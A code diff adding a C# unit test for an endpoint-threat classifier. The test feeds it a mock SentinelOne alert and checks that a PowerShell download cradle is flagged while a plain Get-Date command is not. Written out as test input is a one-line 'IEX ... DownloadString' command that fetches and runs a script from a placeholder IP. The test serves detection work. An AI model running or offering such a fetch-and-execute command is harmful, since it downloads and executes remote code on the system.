@@ -111,4 +111,27 @@ public sealed class EndpointProvenanceTests
             @"C:\_SMSTaskSequence\bin\TsManager.exe", "TsManager.exe", executable: @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
         Assert.NotEqual(Classification.Benign, cradle.Classification);
     }
+
+    [Fact]
+    public void SentinelOne_maliciousProcessArguments_is_read_as_the_command_line_when_commandLineArguments_is_absent()
+    {
+        // threats API v2.1 without commandLineArguments: the arguments the engine flagged are the command line.
+        static object S1(string args) => new
+        {
+            id = "1890000000000000002",
+            agentRealtimeInfo = new { agentComputerName = "GX-DEV-0032" },
+            threatInfo = new
+            {
+                threatName = "powershell.exe", classification = "Malware", confidenceLevel = "suspicious", mitigationStatus = "not_mitigated",
+                filePath = @"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", processUser = @"GLOBEX\mei.zhang",
+                createdAt = "2026-11-17T10:31:44Z", maliciousProcessArguments = args,
+            },
+        };
+        var cradle = Assess(S1("powershell.exe -nop -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')"));
+        Assert.Contains(cradle.Evidence, e => e.Key is "download_cradle" or "download_and_execute");
+        Assert.NotEqual(Classification.Benign, cradle.Classification);
+
+        var plain = Assess(S1("powershell.exe -NoProfile -Command Get-Date"));
+        Assert.DoesNotContain(plain.Evidence, e => e.Key is "download_cradle" or "download_and_execute");
+    }
 }
